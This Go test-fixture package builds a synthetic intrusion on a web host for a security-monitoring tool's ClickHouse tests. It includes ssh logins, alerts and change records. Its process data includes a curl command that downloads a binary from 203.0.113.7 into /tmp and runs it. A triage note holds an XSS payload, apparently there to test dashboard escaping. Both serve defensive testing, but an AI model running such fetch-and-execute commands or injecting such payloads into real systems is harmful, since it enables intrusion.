// Package clickhousetest builds a small, coherent incident (every event kind, alerts and
// context records around one intrusion on a web host) and lands it in ClickHouse through the
// real sink stage, for the tests of the store, the query commands and the dashboards.
package clickhousetest

import (
	"fmt"
	"time"

	"github.com/threatcrumbs/crumbs/schemas"
)

// Hosts and services of the scenario.
const (
	WebHost    = "web-1"
	DBHost     = "db-1"
	WebService = "shop"
	DBService  = "shop-db"
	ChangeID   = "CHG-1042"
	DeployID   = "DEP-77"
)

// Scenario is the incident: what the pipeline would have produced.
type Scenario struct {
	Start, End time.Time // every event and alert lies in [Start, End)
	Process    []*schemas.ProcessEvent
	Network    []*schemas.NetworkEvent
	File       []*schemas.FileEvent
	Identity   []*schemas.IdentityEvent
	System     []*schemas.SystemEvent
	Alerts     []*schemas.Alert
	// Triage states on crumbs.triage.
	Triage []*schemas.TriageState
	// Context records in goavro's native form, by context kind.
	Context map[string][]map[string]any
}

// Events is how many events of every kind the scenario holds.
func (s *Scenario) Events() int { return len(s.EventRecords()) }

// EventRecords returns every event of the scenario, of every kind.
func (s *Scenario) EventRecords() []schemas.Record {
	var out []schemas.Record
	out = appendRecords(out, s.Process)
	out = appendRecords(out, s.Network)
	out = appendRecords(out, s.File)
	out = appendRecords(out, s.Identity)
	return appendRecords(out, s.System)
}

func appendRecords[E schemas.Record](out []schemas.Record, evs []E) []schemas.Record {
	for _, e := range evs {
		out = append(out, e)
	}
	return out
}

// ContextRecords is how many context records the scenario holds.
func (s *Scenario) ContextRecords() int {
	n := 0
	for _, rs := range s.Context {
		n += len(rs)
	}
	return n
}

// New returns the scenario: 20 minutes ending at end (truncated to the second). An
// attacker logs into web-1 over ssh (after failed attempts), runs a shell that downloads and
// runs a binary, which connects to the database host and changes a deployed file; a change
// window for the shop service is open through all of it.
func New(end time.Time) *Scenario {
	end = end.UTC().Truncate(time.Second)
	start := end.Add(-20 * time.Minute)
	at := func(d time.Duration) int64 { return start.Add(d).UnixNano() }
	web := schemas.Host{ID: "0f3c1a2b9d8e4f5a", Name: WebHost}
	db := schemas.Host{ID: "7a6b5c4d3e2f1a0b", Name: DBHost}
	change := schemas.ChangeRef{ID: ChangeID, Type: "launch", Title: "Black Friday launch", Expected: []schemas.ExpectedEffect{}}
	enrich := func(service, verdict string) *schemas.Enrichment {
		return &schemas.Enrichment{
			Service: service, Environment: "prod", Role: "web", Changes: []schemas.ChangeRef{change},
			Deploy:  &schemas.DeployRef{ID: DeployID, Service: WebService, Version: "1.4.2", DeployedAt: at(-time.Hour)},
			Verdict: verdict,
		}
	}
	s := &Scenario{Start: start, End: end, Context: map[string][]map[string]any{}}

	type proc struct {
		pid, ppid   int32
		path, sha   string
		args        []string
		user        string
		uid         int64
		verdict     string
		parent      string
		parentSHA   string
		parentCmd   string
		offset      time.Duration
		action      string
		containerID string
	}
	procs := []proc{
		{pid: 812, ppid: 1, path: "/usr/sbin/sshd", sha: "aa11", args: []string{"sshd: alice [priv]"}, user: "root", verdict: schemas.VerdictUnmanaged, parent: "/usr/lib/systemd/systemd", offset: 2 * time.Minute},
		{pid: 813, ppid: 812, path: "/usr/bin/bash", sha: "bb22", args: []string{"-bash"}, user: "alice", uid: 1000, verdict: schemas.VerdictUnmanaged, parent: "/usr/sbin/sshd", parentSHA: "aa11", parentCmd: "sshd: alice [priv]", offset: 2*time.Minute + time.Second},
		{pid: 900, ppid: 813, path: "/usr/bin/curl", sha: "cc33", args: []string{"curl", "-so", "/tmp/x", "http://203.0.113.7/x"}, user: "alice", uid: 1000, verdict: schemas.VerdictUnmanaged, parent: "/usr/bin/bash", parentSHA: "bb22", parentCmd: "-bash", offset: 3 * time.Minute},
		{pid: 901, ppid: 813, path: "/tmp/x", sha: "dd44", args: []string{"/tmp/x", "--quiet"}, user: "alice", uid: 1000, verdict: schemas.VerdictUnknown, parent: "/usr/bin/bash", parentSHA: "bb22", parentCmd: "-bash", offset: 4 * time.Minute},
		{pid: 2001, ppid: 1, path: "/opt/shop/bin/shop", sha: "ee55", args: []string{"/opt/shop/bin/shop", "--port", "8080"}, user: "shop", uid: 990, verdict: schemas.VerdictMismatch, parent: "/usr/lib/systemd/systemd", offset: 9 * time.Minute},
		{pid: 900, ppid: 813, path: "/usr/bin/curl", sha: "cc33", args: []string{"curl"}, user: "alice", uid: 1000, verdict: schemas.VerdictUnmanaged, parent: "/usr/bin/bash", offset: 3*time.Minute + 2*time.Second, action: schemas.ActionExit},
	}
	for _, p := range procs {
		action := p.action
		if action == "" {
			action = schemas.ActionExec
		}
		s.Process = append(s.Process, &schemas.ProcessEvent{
			Envelope: schemas.Envelope{EventID: schemas.NewEventID(), Time: at(p.offset), Host: web, Kind: schemas.KindProcess},
			Action:   action,
			Process: schemas.Process{
				PID: p.pid, PPID: p.ppid, CmdLine: fmt.Sprint(p.args), Args: p.args, CWD: "/home/alice",
				File: schemas.File{Path: p.path, Name: baseName(p.path), SHA256: p.sha},
				UID:  p.uid, UserName: p.user, GID: p.uid, GroupName: p.user, LoginUID: 1000, TTY: "pts/0",
				CgroupID: 4242, SystemdUnit: "session-3.scope",
				Parent: schemas.Parent{PID: p.ppid, File: schemas.File{Path: p.parent, Name: baseName(p.parent), SHA256: p.parentSHA}, CmdLine: p.parentCmd},
			},
			Enrichment: enrich(WebService, p.verdict),
		})
	}
	actor := schemas.Actor{PID: 901, File: schemas.File{Path: "/tmp/x", Name: "x", SHA256: "dd44"}, CmdLine: "/tmp/x --quiet",
		User: schemas.User{UID: 1000, Name: "alice"}, CgroupID: 4242, SystemdUnit: "session-3.scope"}
	conn := func(d time.Duration, action string, dst schemas.Endpoint, sent, recv int64) *schemas.NetworkEvent {
		return &schemas.NetworkEvent{
			Envelope: schemas.Envelope{EventID: schemas.NewEventID(), Time: at(d), Host: web, Kind: schemas.KindNetwork},
			Action:   action, Process: actor,
			Network: schemas.Network{Direction: "outbound", Protocol: "tcp", IPVersion: 4,
				Src: schemas.Endpoint{IP: "10.0.1.5", Port: 40000}, Dst: dst, BytesSent: sent, BytesReceived: recv,
				DNSAnswers: []string{}},
			Enrichment: enrich(WebService, ""),
		}
	}
	dbEnd := schemas.Endpoint{IP: "10.0.2.9", Port: 5432, Hostname: DBHost}
	ext := schemas.Endpoint{IP: "203.0.113.7", Port: 80}
	s.Network = []*schemas.NetworkEvent{
		conn(3*time.Minute, schemas.ActionConnect, ext, 0, 0),
		conn(3*time.Minute+time.Second, schemas.ActionClose, ext, 310, 48213),
		conn(5*time.Minute, schemas.ActionConnect, dbEnd, 0, 0),
		// An update carries the bytes so far, the close the final bytes.
		conn(6*time.Minute, schemas.ActionUpdate, dbEnd, 2048, 1<<20),
		conn(8*time.Minute, schemas.ActionClose, dbEnd, 3072, 1<<20+1<<19),
	}
	s.File = []*schemas.FileEvent{{
		Envelope: schemas.Envelope{EventID: schemas.NewEventID(), Time: at(7 * time.Minute), Host: web, Kind: schemas.KindFile},
		Action:   schemas.ActionWrite, Process: actor,
		File: schemas.TargetFile{Path: "/opt/shop/bin/shop", Name: "shop", SHA256: "ee55", Size: 9120, Owner: "shop", Group: "shop",
			UID: 990, GID: 990, Mode: "0755", Changed: []string{"sha256", "size"}},
		Enrichment: &schemas.Enrichment{Service: WebService, Environment: "prod", Role: "web", Changes: []schemas.ChangeRef{change},
			Verdict: schemas.VerdictMismatch, VerdictReason: "sha256 ee55 is not in DEP-77's manifest (want 9f86)"},
	}, {
		Envelope: schemas.Envelope{EventID: schemas.NewEventID(), Time: at(8 * time.Minute), Host: web, Kind: schemas.KindFile},
		Action:   schemas.ActionScanAdded,
		File:     schemas.TargetFile{Path: "/tmp/x", Name: "x", SHA256: "dd44", Size: 50312, Owner: "alice", Group: "alice", UID: 1000, GID: 1000, Mode: "0755", Changed: []string{}},
		Enrichment: &schemas.Enrichment{Service: WebService, Environment: "prod", Role: "web",
			Verdict: schemas.VerdictUnknown, VerdictReason: "no deploy manifest names /tmp/x"},
	}}
	login := func(d time.Duration, action, user, target, remote, result string) *schemas.IdentityEvent {
		return &schemas.IdentityEvent{
			Envelope: schemas.Envelope{EventID: schemas.NewEventID(), Time: at(d), Host: web, Kind: schemas.KindIdentity},
			Action:   action,
			Process:  schemas.Actor{PID: 812, File: schemas.File{Path: "/usr/sbin/sshd", Name: "sshd"}, User: schemas.User{Name: "root"}},
			Identity: schemas.Identity{Service: "sshd", User: user, TargetUser: target, RemoteHost: remote, Result: result, OldUID: -1, NewUID: -1, OldGID: -1, NewGID: -1},
			Enrichment: &schemas.Enrichment{Service: WebService, Environment: "prod", Role: "web",
				Account: &schemas.AccountRef{Name: user, Type: schemas.AccountHuman, Interactive: true, AllowedSources: []string{"10.0.0.0/8"}, AllowedUsers: []string{}}},
		}
	}
	s.Identity = []*schemas.IdentityEvent{
		login(time.Minute, schemas.ActionAuth, "root", "", "198.51.100.23", schemas.ResultFailure),
		login(time.Minute+10*time.Second, schemas.ActionAuth, "root", "", "198.51.100.23", schemas.ResultFailure),
		login(2*time.Minute, schemas.ActionAuth, "alice", "", "198.51.100.23", schemas.ResultSuccess),
		login(2*time.Minute+time.Second, schemas.ActionSessionOpen, "alice", "", "198.51.100.23", schemas.ResultSuccess),
		login(4*time.Minute+30*time.Second, schemas.ActionSetUID, "alice", "root", "", schemas.ResultSuccess),
	}
	s.Identity[4].Identity.Service, s.Identity[4].Identity.OldUID, s.Identity[4].Identity.NewUID = "sudo", 1000, 0
	for i := range 20 {
		host, svc, unit := web, WebService, "shop.service"
		if i%2 == 1 {
			host, svc, unit = db, DBService, "postgresql.service"
		}
		s.System = append(s.System, &schemas.SystemEvent{
			Envelope: schemas.Envelope{EventID: schemas.NewEventID(), Time: at(time.Duration(i/2) * time.Minute), Host: host, Kind: schemas.KindSystem},
			System: schemas.System{Scope: "service", Unit: unit, CgroupID: int64(100 + i%2), IntervalNs: int64(time.Minute),
				CPUSeconds: 1.5 + float64(i), MemoryBytes: int64(200+i) << 20, ProcessCount: 4, Connections: int64(10 + i),
				BytesSent: int64(1000 * (i + 1)), BytesReceived: int64(4000 * (i + 1))},
			Enrichment: &schemas.Enrichment{Service: svc, Environment: "prod", Role: "web", Changes: []schemas.ChangeRef{change}},
		})
	}
	s.Alerts = []*schemas.Alert{{
		AlertID: "alert-ssh-then-unknown-binary", Time: at(4*time.Minute + 5*time.Second), RuleID: "unknown-binary-after-login",
		Title: "Unknown binary run after an interactive login", Severity: "high", Tags: []string{"attack.t1204"},
		GroupKey: WebHost, Host: web, Service: WebService, WindowStart: at(2 * time.Minute), WindowEnd: at(4*time.Minute + 5*time.Second),
		Count: 2, Evidence: []string{s.Identity[2].EventID, s.Process[3].EventID}, Summary: "alice logged in from 198.51.100.23 and ran /tmp/x",
	}, {
		AlertID: "alert-deployed-file-changed", Time: at(7*time.Minute + time.Second), RuleID: "deployed-file-changed",
		Title: "Deployed file changed outside a deploy", Severity: "critical", Tags: []string{"integrity"},
		GroupKey: WebHost, Host: web, Service: WebService, WindowStart: at(7 * time.Minute), WindowEnd: at(7 * time.Minute),
		Count: 1, Evidence: []string{s.File[0].EventID}, Summary: "/opt/shop/bin/shop changed by /tmp/x",
	}, {
		AlertID: "alert-db-volume", Time: at(8*time.Minute + 2*time.Second), RuleID: "db-volume-spike",
		Title: "Database egress above baseline", Severity: "medium", Tags: []string{},
		GroupKey: DBService, Host: db, Service: DBService, WindowStart: at(5 * time.Minute), WindowEnd: at(8 * time.Minute),
		Count: 3, Evidence: []string{s.Network[2].EventID, s.Network[3].EventID, s.Network[4].EventID}, Summary: "1.5 MiB from shop-db to web-1",
	}}
	updated := end.UnixNano()
	// An analyst acknowledged the database alert and wrote a note on it.
	s.Triage = []*schemas.TriageState{{AlertID: "alert-db-volume", Version: updated, State: schemas.TriageAcknowledged, Assignee: "alice",
		UpdatedAt: updated, UpdatedBy: "alice", Notes: []schemas.TriageNote{{At: updated, By: "alice", Text: "backup window? <img src=x onerror=alert(1)>"}},
		RuleID: "db-volume-spike", Host: DBHost, GroupKey: DBService, AlertTime: s.Alerts[2].Time,
		Severity: s.Alerts[2].Severity, Service: DBService, Tags: s.Alerts[2].Tags}}
	s.Context[schemas.ContextChange] = []map[string]any{{
		"kind": "change", "id": ChangeID, "type": "launch", "title": "Black Friday launch",
		"services": []any{WebService}, "hosts": []any{}, "starts_at": start.Add(-time.Hour).UnixNano(), "ends_at": end.Add(time.Hour).UnixNano(),
		"expected": []any{map[string]any{"service": DBService, "metric": "network_bytes", "up_to_factor": 4.0}}, "updated_at": updated,
	}, {
		"kind": "change", "id": "CHG-1001", "type": "maintenance", "title": "Kernel patching (last week)",
		"services": []any{DBService}, "hosts": []any{DBHost}, "starts_at": start.Add(-7 * 24 * time.Hour).UnixNano(), "ends_at": start.Add(-6 * 24 * time.Hour).UnixNano(),
		"expected": []any{}, "updated_at": updated,
	}}
	s.Context[schemas.ContextDeploy] = []map[string]any{{
		"kind": "deploy", "id": DeployID, "service": WebService, "version": "1.4.2", "hosts": []any{WebHost},
		"deployed_at": start.Add(-time.Hour).UnixNano(), "updated_at": updated,
		"artifacts": []any{map[string]any{"path": "/opt/shop/bin/shop", "sha256": "9f86", "owner": "shop", "group": "shop", "mode": "0755"}},
	}}
	s.Context[schemas.ContextInventory] = []map[string]any{
		{"kind": "inventory", "id": WebHost, "host": WebHost, "service": WebService, "environment": "prod", "role": "web", "updated_at": updated},
		{"kind": "inventory", "id": DBHost, "host": DBHost, "service": DBService, "environment": "prod", "role": "db", "updated_at": updated},
	}
	s.Context[schemas.ContextAccount] = []map[string]any{
		{"kind": "account", "id": "alice", "name": "alice", "type": "human", "interactive": true,
			"allowed_sources": []any{"10.0.0.0/8"}, "allowed_users": []any{}, "updated_at": updated},
	}
	return s
}

func baseName(p string) string {
	for i := len(p) - 1; i >= 0; i-- {
		if p[i] == '/' {
			return p[i+1:]
		}
	}
	return p
}
